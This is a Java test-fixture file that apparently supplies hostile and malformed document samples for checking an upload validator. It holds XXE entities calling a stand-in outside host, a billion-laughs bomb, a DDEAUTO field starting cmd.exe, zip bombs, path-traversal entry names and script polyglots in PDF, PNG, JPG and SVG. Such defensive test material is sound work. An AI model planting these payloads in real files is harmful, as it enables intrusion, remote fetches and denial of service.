package nl.koers.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import nl.koers.documents.FileLook.Why;
import org.jspecify.annotations.Nullable;

/// Files made to hurt, and files that only look so.
///
/// @param why it is refused; null when it is taken, to be kept as a file and never shown
/// @param word whether somebody might try it as a Word file too
public record HostileFiles(String what, @Nullable Why why, byte[] bytes, boolean word) {
    private static final String TYPES = "[Content_Types].xml";
    private static final String DOCUMENT = "word/document.xml";
    private static final String SHEET =
            "<?xml version='1.0'?><w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body><w:p><w:r><w:t>Tekst</w:t></w:r></w:p></w:body></w:document>";
    static final String ODT = "application/vnd.oasis.opendocument.text";
    private static final String OUTSIDE = "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://elders.example/'>]><a>&b;</a>";
    private static final byte[] PDF = latin(
            "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");

    public static List<HostileFiles> all() {
        return Made.ALL;
    }

    private static final class Made {
        static final List<HostileFiles> ALL =
                Stream.concat(make().stream(), FetchingFiles.all().stream()).toList();
    }

    private static List<HostileFiles> make() {
        return List.of(
                word("docm die docx heet", Why.MACRO, docx("word/vbaProject.bin", "x")),
                word(
                        "macro onder een andere naam",
                        Why.MACRO,
                        docx(
                                "word/_rels/document.xml.rels",
                                "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='foto.bin'/>",
                                "word/foto.bin",
                                "x")),
                word("macro in een hoofdlettermap", Why.MACRO, docx("WORD/VBAPROJECT.BIN", "x")),
                word(
                        "macro die laat in de lijst van soorten staat",
                        Why.MACRO,
                        zip(
                                TYPES,
                                "<Types>" + " ".repeat(20_000)
                                        + "application/vnd.ms-word.document.macroEnabled.main+xml</Types>",
                                DOCUMENT,
                                SHEET)),
                word(
                        "macro in een document in het document",
                        Why.MACRO,
                        docx("word/embeddings/a.docx", zip(DOCUMENT, SHEET, "word/vbaProject.bin", "x"))),
                word("besturing met ActiveX", Why.MACRO, docx("word/activeX/activeX1.bin", "x")),
                file(
                        "Excel 4-macro",
                        Why.MACRO,
                        zip(TYPES, "", "xl/workbook.xml", "", "xl/macrosheets/sheet1.xml", "")),
                file("odt met script", Why.MACRO, odt("Scripts/python/a.py", "x")),
                word("entiteit van buiten in docx", Why.FETCHES, docx("word/footnotes.xml", OUTSIDE)),
                word(
                        "entiteit van buiten achter een lang commentaar",
                        Why.FETCHES,
                        docx("word/footnotes.xml", "<!--" + "-x".repeat(30_000) + "-->" + OUTSIDE)),
                word(
                        "entiteit van buiten in twee bytes per teken",
                        Why.FETCHES,
                        docx("word/footnotes.xml", OUTSIDE.getBytes(StandardCharsets.UTF_16))),
                word(
                        "entiteit van buiten over een rand heen",
                        Why.FETCHES,
                        docx("word/footnotes.xml", " ".repeat(8_188) + OUTSIDE)),
                file("entiteit van buiten in odt", Why.FETCHES, odt("styles.xml", OUTSIDE)),
                file(
                        "entiteit van buiten in xlsx",
                        Why.FETCHES,
                        zip(TYPES, "", "xl/workbook.xml", "", "xl/sharedStrings.xml", OUTSIDE)),
                word(
                        "miljard keer lachen",
                        Why.FETCHES,
                        docx(
                                "word/styles.xml",
                                "<!DOCTYPE l [<!ENTITY a 'haha'><!ENTITY b '&a;&a;&a;&a;'>]><l>&b;</l>")),
                word(
                        "sjabloon van buiten",
                        Why.FETCHES,
                        docx(
                                "word/_rels/settings.xml.rels",
                                "<Relationship Type='x/attachedTemplate' Target='http://elders.example/x.dotm' TargetMode='External'/>")),
                word(
                        "veld dat een programma start",
                        Why.FETCHES,
                        docx("word/header1.xml", "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>")),
                word("zipbom", Why.GROWS, zip(TYPES, "", DOCUMENT, new byte[8 << 20])),
                word("zipbom in een zip", Why.GROWS, docx("word/embeddings/a.xlsx", nested(1, 8))),
                word("zip in zip in zip in zip", Why.GROWS, docx("word/embeddings/a.xlsx", nested(4, 1))),
                word("naam die buiten de map wijst", Why.STRAYS, docx("word/../../../etc/cron.d/a", "x")),
                word("naam met streepjes van Windows", Why.STRAYS, docx("word\\..\\..\\a.dll", "x")),
                word("naam die bij de wortel begint", Why.STRAYS, docx("/etc/passwd", "x")),
                word("naam met een schijf ervoor", Why.STRAYS, docx("C:\\a.dll", "x")),
                word("naam met een regeleinde", Why.STRAYS, docx("word/a\nb.xml", "x")),
                word(
                        "naam die buiten wijst, een laag dieper",
                        Why.STRAYS,
                        docx("word/embeddings/a.docx", zip("../a", "x"))),
                file("pdf en zip in een", Why.MIXED, join(PDF, docx())),
                file("pdf en zip met een lang slot", Why.MIXED, join(PDF, commented(docx()))),
                file("png en html in een", Why.MIXED, join(png(""), latin("<html><script>lek(1)</script>"))),
                file("jpg en svg in een", Why.MIXED, join(jpg(""), latin("<svg onload=lek(1)>"))),
                word("zip achter een plaatje", Why.MIXED, join(png(""), docx())),
                file(
                        "svg",
                        Why.OTHER_KIND,
                        latin(
                                "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>lek(1)</script></svg>")),
                file("html die pdf heet", Why.OTHER_KIND, latin("<!doctype html><script>lek(1)</script>")),
                file("programma dat pdf heet", Why.OTHER_KIND, latin("MZ\u0090\0\3")),
                file("oud Word", Why.OTHER_KIND, latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1")),
                file("leeg", Why.EMPTY, new byte[0]),
                file("te groot", Why.TOO_BIG, Arrays.copyOf(PDF, (25 << 20) + 1)),
                file("halve pdf", Why.BROKEN, Arrays.copyOf(PDF, 30)),
                word("halve docx", Why.BROKEN, Arrays.copyOf(docx(), 90)),
                file("pdf met wachtwoord", Why.ENCRYPTED, latin("%PDF-1.7\ntrailer<</Encrypt 4 0 R>>\n%%EOF")),
                word(
                        "Word met wachtwoord",
                        Why.ENCRYPTED,
                        latin("\u00d0\u00cf\u0011\u00e0..E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0")),
                file(
                        "odt met wachtwoord",
                        Why.ENCRYPTED,
                        odt("META-INF/manifest.xml", " ".repeat(9_000) + "<m:encryption-data/>")),
                file("pdf die een script draait bij het openen", null, PDF),
                file("png met html in zijn binnenste", null, png("<html><script>lek(1)</script></html>")),
                file("jpg die ook javascript is", null, jpg("*/=lek(1)/*")));
    }

    static HostileFiles word(String what, @Nullable Why why, byte[] bytes) {
        return new HostileFiles(what, why, bytes, true);
    }

    static HostileFiles file(String what, @Nullable Why why, byte[] bytes) {
        return new HostileFiles(what, why, bytes, false);
    }

    public static byte[] docx(Object... more) {
        var all = new Object[more.length + 4];
        System.arraycopy(new Object[] {TYPES, "<Types/>", DOCUMENT, SHEET}, 0, all, 0, 4);
        System.arraycopy(more, 0, all, 4, more.length);
        return zip(all);
    }

    static byte[] odt(Object... more) {
        var all = new Object[more.length + 4];
        System.arraycopy(new Object[] {"mimetype", ODT, "content.xml", "<x/>"}, 0, all, 0, 4);
        System.arraycopy(more, 0, all, 4, more.length);
        return zip(all);
    }

    static byte[] xlsx(String name, String content) {
        return zip(TYPES, "<Types/>", "xl/workbook.xml", "<workbook/>", name, content);
    }

    private static byte[] nested(int depth, int megabytes) {
        return depth == 0 ? new byte[1 << 20] : zip(pieces(depth, megabytes));
    }

    private static Object[] pieces(int depth, int megabytes) {
        int many = depth == 1 ? megabytes : 1;
        var all = new Object[2 * many];
        for (int i = 0; i < many; i++) {
            all[2 * i] = "deel" + i;
            all[2 * i + 1] = nested(depth - 1, megabytes);
        }
        return all;
    }

    /// With a comment behind it as long as a zip can have, so that its end mark stands far from the end.
    private static byte[] commented(byte[] zip) {
        var all = Arrays.copyOf(zip, zip.length + 65_535);
        Arrays.fill(all, zip.length, all.length, (byte) ' ');
        all[zip.length - 2] = (byte) 0xff;
        all[zip.length - 1] = (byte) 0xff;
        return all;
    }

    private static byte[] png(String inside) {
        var text = latin("tEXt" + "Comment\0" + inside);
        var crc = new CRC32();
        crc.update(text);
        var head = latin("\u0089PNG\r\n\u001a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\b\0\0\0\0:~\u009bU");
        var size = java.nio.ByteBuffer.allocate(4).putInt(text.length - 4).array();
        var sum = java.nio.ByteBuffer.allocate(4).putInt((int) crc.getValue()).array();
        return join(head, join(join(size, text), join(sum, latin("\0\0\0\0IEND\u00aeB`\u0082"))));
    }

    private static byte[] jpg(String inside) {
        return latin("\u00ff\u00d8\u00ff\u00fe/*" + inside + "\u00ff\u00d9");
    }

    static byte[] zip(Object... namesAndContents) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < namesAndContents.length; i += 2) {
                zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
                zip.write(
                        namesAndContents[i + 1] instanceof byte[] content
                                ? content
                                : namesAndContents[i + 1].toString().getBytes(StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] join(byte[] one, byte[] other) {
        var all = Arrays.copyOf(one, one.length + other.length);
        System.arraycopy(other, 0, all, one.length, other.length);
        return all;
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Override
    public String toString() {
        return what;
    }
}
